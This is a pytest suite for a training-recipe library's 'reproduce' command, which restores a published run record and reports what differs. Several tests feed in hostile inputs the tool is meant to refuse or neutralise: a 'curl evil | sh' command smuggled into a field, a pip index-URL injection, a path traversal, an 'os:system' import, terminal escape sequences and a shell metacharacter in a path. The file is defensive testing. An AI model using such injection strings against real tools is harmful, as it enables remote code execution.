"""A run is restored from what was published of it, and what is not as it was is said."""

from __future__ import annotations

import json
import shlex

import pytest
import yaml

from recipes_lib.cli import main
from recipes_lib.commands import reproduce
from recipes_lib.config.loader import load_config
from recipes_lib.config.schema import flatten_config
from recipes_lib.config.table import RECIPE_NAMES, load_table
from recipes_lib.environment import read_versions
from recipes_lib.errors import EXIT_DONE, EXIT_USER
from recipes_lib.publish.card import make_portable

COMMIT = "c" * 40
GIVEN = {
    "model_name_or_path": "owner/base",
    "dataset_name": "owner/chats",
    "dataset_revision": COMMIT,
    "output_dir": "runs/mine",
    "learning_rate": 1e-5,
    "lr_scheduler_type": "cosine",
    "push_to_hub": True,
    "hub_model_id": "me/mine",
    "save_steps": 7,
}


@pytest.fixture
def record(tmp_path, monkeypatch):
    """What ``run.json`` says of an SFT run, as published."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(reproduce, "read_git_commit", lambda: COMMIT)
    (tmp_path / "sft.yaml").write_text(yaml.safe_dump(GIVEN))
    config = load_config("sft", ["--config", "sft.yaml"])
    return make_portable(
        {
            "stage": "sft",
            "config": json.loads(json.dumps(flatten_config(config), default=str)),
            "provenance": dict(config.provenance),
            "versions": read_versions(),
            "num_processes": 1,
            "git_commit": COMMIT,
            "model_commit": "b" * 40,
            "hardware": {"device": "NVIDIA H200"},
            "data": {"inputs": {"sources": {"train": "9604a55826332cb08ea7"}}},
        }
    )


@pytest.fixture
def run(record, tmp_path, capsys):
    def run(*flags, **changes):
        folder = tmp_path / "published"
        folder.mkdir(exist_ok=True)
        (folder / "run.json").write_text(json.dumps(record | changes))
        code = main(["reproduce", str(folder), *flags])
        told = capsys.readouterr()
        return code, told.out, told.err

    return run


def load(tmp_path):
    """The configuration that was restored."""
    return load_config("sft", ["--config", str(tmp_path / "reproduced" / "published" / "sft.yaml")])


def test_the_restored_recipe_trains_as_the_first_one_did(run, tmp_path):
    code, told, _ = run()
    assert code == EXIT_DONE
    again = flatten_config(load(tmp_path))
    first = flatten_config(load_config("sft", ["--config", "sft.yaml"]))
    differing = {key for key in first if first[key] != again.get(key)}
    assert differing == {"output_dir", "push_to_hub", "hub_model_id", "model_revision"}
    assert again["model_revision"] == "b" * 40
    assert not again.get("push_to_hub")
    assert "python recipes/sft.py --config reproduced/published/sft.yaml" in told
    assert (
        f"transformers=={read_versions()['transformers']}"
        in (tmp_path / "reproduced/published/constraints.txt").read_text()
    )


def test_what_matches_is_not_told_and_what_cannot_be_known_is(run):
    assert [line for line in run()[1].splitlines() if line.startswith("differs: ")] == [
        "differs: data: the train rows had the fingerprint 9604a55826332cb0; `recipes prepare` records yours",
        "differs: device: it was 1 x NVIDIA H200; other devices round differently",
    ]


def test_a_default_that_has_changed_is_written_down_and_a_key_that_is_gone_is_told(record):
    record["config"]["weight_decay"] = 0.123  # Then the default; today it is another.
    record["config"]["warmup_of_old"] = 0.1
    keys, lost = reproduce.restore_keys(record)
    assert keys["weight_decay"] == 0.123
    assert "adam_beta1" not in keys
    assert lost == ["the key warmup_of_old, which was 0.1, no longer exists"]


@pytest.mark.parametrize("recipe", RECIPE_NAMES)
def test_what_was_switched_off_stays_off_and_what_never_was_is_not_written(recipe):
    table = load_table(recipe)
    optional = {key for key in table.keys if table.keys[key].accepts("null") and not key.startswith(("hub_", "run_"))}
    optional -= {"prepared_dir", "push_to_hub"}
    on = {key for key in optional if table.keys[key].default is not None}
    assert on >= {"save_total_limit"}
    record = {"stage": recipe, "config": dict.fromkeys(optional), "provenance": dict.fromkeys(optional, "sft.yaml:1")}
    keys, _ = reproduce.restore_keys(record)
    assert keys == dict.fromkeys(on)


def test_a_limit_that_was_lifted_is_lifted_again(run, record, tmp_path):
    config, provenance = record["config"], record["provenance"]
    run(config=config | {"save_total_limit": None}, provenance=provenance | {"save_total_limit": "sft.yaml:9"})
    assert load(tmp_path).training["save_total_limit"] is None


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        ({"versions": {"python": "3.4", "torch": "1.0"}}, ["python was 3.4", "torch was 1.0 and is"]),
        ({"git_commit": "a" * 40}, [f"commit {'a' * 40} and is at {COMMIT}"]),
        ({"num_processes": 8}, ["8 x NVIDIA H200", "torchrun --nproc_per_node 8 recipes/sft.py"]),
    ],
)
def test_what_differs_is_told(run, changes, words):
    code, told, _ = run(**changes)
    assert code == EXIT_DONE
    assert all(word in told for word in words), told


def test_files_of_another_machine_and_data_without_a_revision_are_told(record):
    keys = {"dataset_name": "chats.jsonl", "model_name_or_path": "base", "chat_template_path": "chat.jinja"}
    told = " ".join(reproduce.compare(record, keys))
    for key, name in keys.items():
        assert f"{key}: {name} was a file or folder of the machine" in told
    assert "owner/chats was not pinned" in " ".join(reproduce.compare(record, {"dataset_name": "owner/chats"}))


def test_a_configuration_that_is_refused_today_is_told_with_its_lines(run, record):
    code, _, told = run(config=record["config"] | {"learning_rate": -1.0})
    assert code == EXIT_USER
    assert "learning_rate" in told
    assert "sft.yaml:" in told


HOSTILE = "1.0\n--index-url http://evil\n#"


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"versions": {"torch": HOSTILE}}, "versions"),
        ({"versions": {"torch": "2.13.0\n"}}, "versions"),
        ({"versions": {"torch @ http://evil/x.whl": "1.0"}}, "versions"),
        ({"versions": ["torch"]}, "versions"),
        ({"num_processes": "1; curl evil | sh #"}, "num_processes"),
        ({"num_processes": True}, "num_processes"),
        ({"num_processes": 0}, "num_processes"),
        ({"stage": ["sft"]}, "stage"),
        ({"stage": "../evil"}, "stage"),
        ({"config": []}, "config"),
        ({"provenance": {"seed": 1}}, "provenance"),
        ({"model_commit": "main\n"}, "model_commit"),
        ({"git_commit": 5}, "git_commit"),
        ({"hardware": "x"}, "hardware"),
        ({"data": 1}, "data"),
    ],
)
def test_a_record_that_no_recipe_writes_is_refused_whole(run, tmp_path, changes, field):
    code, told, error = run(**changes)
    assert code == EXIT_USER
    assert f"is not a run record: {field}" in error
    assert not told
    assert not (tmp_path / "reproduced").exists()


def test_keys_that_run_code_are_told_and_not_carried_over(run, record, tmp_path):
    evil = {"metrics": ["os:system\nseed: 1"], "trust_remote_code": True, "attn_implementation": "evil/kernels"}
    given = dict.fromkeys(evil, "sft.yaml:1")
    code, told, _ = run(config=record["config"] | evil, provenance=record["provenance"] | given)
    assert code == EXIT_DONE
    flat = flatten_config(load(tmp_path))
    assert [flat[key] for key in evil] == [None, False, None]
    text = (tmp_path / "reproduced/published/sft.yaml").read_text()
    for key, value in evil.items():
        assert f"# {key}: {json.dumps(value)}\n" in text
        assert f"differs: the key {key}, which was " in told


def test_no_list_of_keys_that_import_is_forgotten():
    """Their help says what they name: whoever adds such a key is sent here."""
    for recipe in RECIPE_NAMES:
        for name, key in load_table(recipe).keys.items():
            imports = any(words in key.help for words in ("package.module", "import path", "Run code"))
            assert imports == reproduce.runs_code(name, "x"), (recipe, name, key.help)


def test_a_stranger_writes_no_line_and_no_escape_sequence_on_the_terminal(run, record, tmp_path):
    config = record["config"] | {"dataset_name": "a\x1b[2Jb\nsame run: evil", "gone\x07": 1}
    _, told, _ = run(config=config, hardware={"device": "\x1b]0;H200\x07"}, data={"inputs": {"sources": [1]}})
    assert all(char.isprintable() or char == "\n" for char in told)
    assert r"a\x1b[2Jb\nsame run: evil was a file or folder" in told
    assert not any(line.startswith("same run:") for line in told.splitlines()), "the name is refused"


def test_paths_are_quoted_in_the_commands(run, tmp_path):
    folder = tmp_path / "a; id"
    _, told, _ = run("--output", str(folder))
    command = next(line for line in told.splitlines() if line.startswith("same run:")).partition(":")[2]
    assert shlex.split(command)[-1] == str(folder / "sft.yaml")


def test_a_folder_is_named_by_where_it_is(run, tmp_path, monkeypatch):
    run()
    monkeypatch.chdir(tmp_path / "published")
    assert main(["reproduce", "."]) == EXIT_DONE
    assert (tmp_path / "published" / "reproduced" / "published" / "sft.yaml").is_file()


def test_from_the_hub_by_revision(hub, record, run, tmp_path, monkeypatch, capsys):
    monkeypatch.setattr("huggingface_hub.constants.HF_HUB_CACHE", str(tmp_path / "cache"))
    repository = hub.add("me/mine", private=True, files={"run.json": json.dumps(record).encode()})
    repository.tags["step-5"] = repository.find("main").oid
    assert main(["reproduce", "me/mine", "--revision", "step-5", "--output", str(tmp_path / "again")]) == EXIT_DONE
    assert (tmp_path / "again" / "sft.yaml").is_file()
    assert main(["reproduce", "me/nothing"]) == EXIT_USER
    assert "its run.json cannot be fetched" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("text", "words"), [("{", "holds no run.json"), ("{}", "not a run record"), (None, "holds no run.json")]
)
def test_what_is_no_run_is_refused(tmp_path, capsys, text, words):
    if text is not None:
        (tmp_path / "run.json").write_text(text)
    assert main(["reproduce", str(tmp_path)]) == EXIT_USER
    assert words in capsys.readouterr().err
